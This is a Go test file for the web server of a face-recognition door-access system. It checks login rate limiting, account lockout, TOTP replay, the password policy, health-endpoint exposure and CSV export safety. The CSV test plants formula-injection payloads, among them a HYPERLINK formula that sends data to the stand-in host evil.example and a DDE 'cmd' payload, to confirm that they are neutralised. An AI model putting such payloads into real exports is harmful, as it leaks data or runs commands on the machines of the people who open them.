package web

import (
	"encoding/csv"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/url"
	"strings"
	"testing"
	"time"

	"github.com/pquerna/otp"
	"github.com/pquerna/otp/totp"

	"github.com/facegate/facegate/storage"
)

// restart builds a new server on the same database with opts, as a restart
// of the appliance would; sessions held in memory are lost.
func (h *harness) restart(opts Options) {
	h.t.Helper()
	s, err := New(h.s.deps, opts)
	if err != nil {
		h.t.Fatal(err)
	}
	h.mu.Lock()
	h.s = s
	h.mu.Unlock()
}

// postLogin tries a login from a client that claims to be forwarded for xff.
func (h *harness) postLogin(c *http.Client, user, password, xff string) (int, string) {
	h.t.Helper()
	tok := h.csrf(c, "/login")
	req, _ := http.NewRequest(http.MethodPost, h.ts.URL+"/login",
		strings.NewReader(url.Values{"_csrf": {tok}, "username": {user}, "password": {password}}.Encode()))
	req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
	if xff != "" {
		req.Header.Set("X-Forwarded-For", xff)
	}
	resp, err := c.Do(req)
	if err != nil {
		h.t.Fatal(err)
	}
	defer resp.Body.Close()
	b, _ := io.ReadAll(resp.Body)
	return resp.StatusCode, string(b)
}

// Security 1: a forged X-Forwarded-For neither dodges the login rate limit
// nor lands in the audit log; failed logins are audited with the real IP.
func TestLoginForgedForwardedForIgnored(t *testing.T) {
	h := newHarness(t)
	h.user("alice", storage.RoleAdmin)
	c := h.client()
	codes := map[int]int{}
	for i := range 20 {
		code, _ := h.postLogin(c, "alice", "not the password", fmt.Sprintf("203.0.113.%d", i+1))
		codes[code]++
	}
	if codes[http.StatusTooManyRequests] == 0 {
		t.Fatalf("20 wrong passwords with forged X-Forwarded-For: %v, never 429", codes)
	}
	log, _ := h.db.AuditLog(50)
	failed := 0
	for _, e := range log {
		if strings.Contains(e.Detail, "203.0.113.") {
			t.Fatalf("audit records the forged address: %s %s", e.Code, e.Detail)
		}
		if e.Code == "login_failed" && strings.Contains(e.Detail, `"ip":"127.0.0.1"`) {
			failed++
		}
	}
	if failed == 0 {
		t.Fatalf("no failed login audited with the real address: %+v", log)
	}
}

// Behind a configured proxy its X-Forwarded-For is believed, and an attack
// spread over many addresses is stopped per account; the lock survives a
// restart, backs off, and a good login after it clears the count.
func TestAccountLockoutBehindTrustedProxy(t *testing.T) {
	h := newHarness(t)
	h.user("alice", storage.RoleAdmin)
	h.restart(Options{PlainHTTP: true, TrustedProxies: []string{"127.0.0.1"}})
	c := h.client()
	for i := range storage.LockoutAfter {
		code, _ := h.postLogin(c, "alice", "wrong guess", fmt.Sprintf("198.51.100.%d", i+1))
		if want := http.StatusUnauthorized; i < storage.LockoutAfter-1 && code != want {
			t.Fatalf("failure %d: %d, want %d", i+1, code, want)
		}
	}
	log, _ := h.db.AuditLog(1)
	if len(log) == 0 || log[0].Code != "login_failed" || !strings.Contains(log[0].Detail, `"ip":"198.51.100.5"`) {
		t.Fatalf("the proxy's client address not audited: %+v", log)
	}
	h.restart(Options{PlainHTTP: true, TrustedProxies: []string{"127.0.0.0/8"}})
	code, body := h.postLogin(c, "alice", testPassword, "198.51.100.77")
	if code != http.StatusTooManyRequests || !strings.Contains(body, `id="locked"`) {
		t.Fatalf("locked account after a restart, right password: %d", code)
	}
	h.advance(storage.LockoutBase + time.Second)
	if code, _ := h.postLogin(c, "alice", "wrong again", "198.51.100.78"); code != http.StatusTooManyRequests {
		t.Fatalf("6th failure: %d, want 429 (locked again, longer)", code)
	}
	h.advance(storage.LockoutBase + time.Second)
	if code, _ := h.postLogin(c, "alice", testPassword, "198.51.100.79"); code != http.StatusTooManyRequests {
		t.Fatalf("backoff did not double: %d", code)
	}
	h.advance(storage.LockoutBase)
	if code, _ := h.postLogin(c, "alice", testPassword, "198.51.100.80"); code != http.StatusSeeOther {
		t.Fatalf("after the lock: %d", code)
	}
	if _, locked := h.db.LoginLockedUntil("alice", h.now()); locked {
		t.Fatal("a good login did not clear the lock")
	}
	if _, err := New(h.s.deps, Options{TrustedProxies: []string{"not-an-ip"}}); err == nil {
		t.Fatal("a bad trusted proxy accepted")
	}
}

// Security 3: no cell of any CSV export starts a formula, whatever column
// the attacker's text lands in (employee ID, name, door, area, reason).
func TestCSVExportsNeutraliseFormulas(t *testing.T) {
	h := newHarness(t)
	h.user("ivy", storage.RoleInvestigator)
	c := h.login("ivy")
	p, err := h.db.Enroll(`=HYPERLINK("http://evil.example/?"&A1,"open")`, "+Mallory", []storage.NewTemplate{{ModelVersion: "m"}})
	if err != nil {
		t.Fatal(err)
	}
	for i, dir := range []string{"in", "out"} {
		_, err := h.rec.Record(storage.Event{AtMicro: h.now().Add(time.Duration(i-2) * time.Hour).UnixMicro(), Kind: "access_granted",
			Granted: true, PersonID: p.ID, PersonName: p.Name, Door: "@SUM(1+1)", Area: "-2+3", Direction: dir,
			Reason: "\tcmd|' /C calc'!A0", Code: "\r=1"}, nil, nil)
		if err != nil {
			t.Fatal(err)
		}
	}
	for _, path := range []string{"/entries.csv", "/presence/attendance.csv"} {
		resp, err := c.Get(h.ts.URL + path)
		if err != nil {
			t.Fatal(err)
		}
		rows, err := csv.NewReader(resp.Body).ReadAll()
		resp.Body.Close()
		if err != nil || len(rows) < 2 {
			t.Fatalf("%s: %d rows (%v)", path, len(rows), err)
		}
		for _, r := range rows[1:] {
			for i, cell := range r {
				if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
					t.Errorf("%s: column %s is a formula: %q", path, rows[0][i], cell)
				}
			}
		}
		if !strings.Contains(strings.Join(rows[1], ","), "'+Mallory") {
			t.Errorf("%s: the name is not kept as text: %v", path, rows[1])
		}
	}
}

// Security 10: /healthz without a login is a status only; the camera's
// path and errors are shown to logged-in users.
func TestHealthzDetailsOnlyLoggedIn(t *testing.T) {
	h := newHarness(t)
	h.user("vic", storage.RoleViewer)
	h.s.deps.Health = func() Health {
		return Health{Frames: 42, LastFrame: h.now(), SourceState: "streaming", Source: "rtsp://cam:secret@10.1.2.3/door",
			SourceError: "open /srv/cams/door.mp4: permission denied"}
	}
	fetch := func(c *http.Client) (int, map[string]any) {
		resp, err := c.Get(h.ts.URL + "/healthz")
		if err != nil {
			t.Fatal(err)
		}
		defer resp.Body.Close()
		var m map[string]any
		if err := json.NewDecoder(resp.Body).Decode(&m); err != nil {
			t.Fatal(err)
		}
		return resp.StatusCode, m
	}
	code, anon := fetch(h.client())
	if code != http.StatusOK || anon["ok"] != true || len(anon) != 1 {
		t.Fatalf("anonymous /healthz: %d %v, want only {\"ok\":true}", code, anon)
	}
	code, full := fetch(h.login("vic"))
	if code != http.StatusOK || full["source"] != "rtsp://cam:secret@10.1.2.3/door" || full["frames"] != 42.0 {
		t.Fatalf("logged-in /healthz: %d %v", code, full)
	}
}

// Security 8: a TOTP code logs in once; the same code again (within its
// 90 s window) is refused.
func TestTOTPCodeUsedOnce(t *testing.T) {
	h := newHarness(t)
	h.user("ada", storage.RoleAdmin)
	u, err := h.db.EnableTOTP("ada")
	if err != nil {
		t.Fatal(err)
	}
	key, err := otp.NewKeyFromURL(u)
	if err != nil {
		t.Fatal(err)
	}
	try := func(code string) int {
		c := h.client()
		tok := h.csrf(c, "/login")
		resp, err := c.PostForm(h.ts.URL+"/login", url.Values{"_csrf": {tok}, "username": {"ada"}, "password": {testPassword}, "code": {code}})
		if err != nil {
			t.Fatal(err)
		}
		resp.Body.Close()
		return resp.StatusCode
	}
	code, _ := totp.GenerateCode(key.Secret(), h.now())
	if got := try(code); got != http.StatusSeeOther {
		t.Fatalf("first use: %d", got)
	}
	h.advance(10 * time.Second)
	if got := try(code); got != http.StatusUnauthorized {
		t.Fatalf("replayed code: %d, want 401", got)
	}
	h.advance(30 * time.Second)
	next, _ := totp.GenerateCode(key.Secret(), h.now())
	if got := try(next); got != http.StatusSeeOther {
		t.Fatalf("next step's code: %d", got)
	}
}

// Security 9: the first-admin page refuses a password of one repeated
// character or a common one, and takes a passphrase over 72 bytes.
func TestSetupPasswordPolicy(t *testing.T) {
	h := newHarness(t)
	c := h.client()
	tok := h.csrf(c, "/setup")
	post := func(pw string) (int, string) {
		resp, err := c.PostForm(h.ts.URL+"/setup", url.Values{"_csrf": {tok}, "token": {h.s.setup.token}, "username": {"root"}, "password": {pw}})
		if err != nil {
			t.Fatal(err)
		}
		defer resp.Body.Close()
		b, _ := io.ReadAll(resp.Body)
		return resp.StatusCode, string(b)
	}
	for _, pw := range []string{"aaaaaaaaaaaa", "password1234"} {
		if code, body := post(pw); code != http.StatusUnprocessableEntity || !strings.Contains(body, "weak password") {
			t.Fatalf("setup with %q: %d", pw, code)
		}
	}
	long := strings.Repeat("🔑", 5) + " a passphrase of more than seventy-two bytes, which bcrypt alone cannot take"
	if code, body := post(long); code != http.StatusSeeOther {
		t.Fatalf("setup with a %d-byte passphrase: %d %s", len(long), code, body)
	}
	if _, err := h.db.CheckLogin("root", long); err != nil {
		t.Fatalf("login with the long passphrase: %v", err)
	}
}

// openStream GETs path and reports on the returned channel when the
// server ends the response.
func openStream(t *testing.T, c *http.Client, u string) <-chan struct{} {
	t.Helper()
	resp, err := c.Get(u)
	if err != nil {
		t.Fatal(err)
	}
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("%s: %d", u, resp.StatusCode)
	}
	ended := make(chan struct{})
	go func() {
		io.Copy(io.Discard, resp.Body)
		resp.Body.Close()
		close(ended)
	}()
	t.Cleanup(func() { resp.Body.Close() })
	return ended
}

func waitEnded(t *testing.T, what string, ended <-chan struct{}, within time.Duration) {
	t.Helper()
	select {
	case <-ended:
	case <-time.After(within):
		t.Fatalf("%s: the stream still runs %v later", what, within)
	}
}

// Security 5: the live streams (SSE and MJPEG) end with the session: at
// once on logout, and within seconds of its expiry.
func TestLiveStreamsEndWithSession(t *testing.T) {
	h := newHarness(t)
	h.user("vic", storage.RoleViewer)
	stop := make(chan struct{})
	defer close(stop)
	go func() { // a camera: frames keep coming
		for {
			select {
			case <-stop:
				return
			case <-time.After(20 * time.Millisecond):
				h.s.deps.Hub.PublishFrame([]byte("jpeg"))
				h.s.deps.Hub.PublishDecision(map[string]string{"kind": "access_granted"})
			}
		}
	}()
	c := h.login("vic")
	sse, mjpeg := openStream(t, c, h.ts.URL+"/events/stream"), openStream(t, c, h.ts.URL+"/live.mjpg")
	tok := h.csrf(c, "/")
	resp, err := c.PostForm(h.ts.URL+"/logout", url.Values{"_csrf": {tok}})
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	waitEnded(t, "SSE after logout", sse, 2*time.Second)
	waitEnded(t, "MJPEG after logout", mjpeg, 2*time.Second)

	c = h.login("vic")
	sse, mjpeg = openStream(t, c, h.ts.URL+"/events/stream"), openStream(t, c, h.ts.URL+"/live.mjpg")
	h.advance(SessionIdle + time.Second)
	waitEnded(t, "SSE after the session expired", sse, 5*time.Second)
	waitEnded(t, "MJPEG after the session expired", mjpeg, 5*time.Second)

	// A disabled user's stream, and a revoked token's, end too.
	h.user("ada", storage.RoleAdmin)
	c = h.login("vic")
	sse = openStream(t, c, h.ts.URL+"/events/stream")
	if err := h.db.SetUserDisabled("vic", true); err != nil {
		t.Fatal(err)
	}
	waitEnded(t, "SSE of a disabled user", sse, 5*time.Second)
	tok, _ = h.db.CreateAPIToken("ada")
	req, _ := http.NewRequest(http.MethodGet, h.ts.URL+"/events/stream", nil)
	req.Header.Set("Authorization", "Bearer "+tok)
	resp, err = http.DefaultClient.Do(req)
	if err != nil || resp.StatusCode != 200 {
		t.Fatalf("token stream: %v", err)
	}
	ended := make(chan struct{})
	go func() { io.Copy(io.Discard, resp.Body); resp.Body.Close(); close(ended) }()
	toks, _ := h.db.APITokens("ada")
	if _, err := h.db.RevokeAPIToken(toks[0].ID, ""); err != nil {
		t.Fatal(err)
	}
	waitEnded(t, "SSE of a revoked token", ended, 5*time.Second)
}
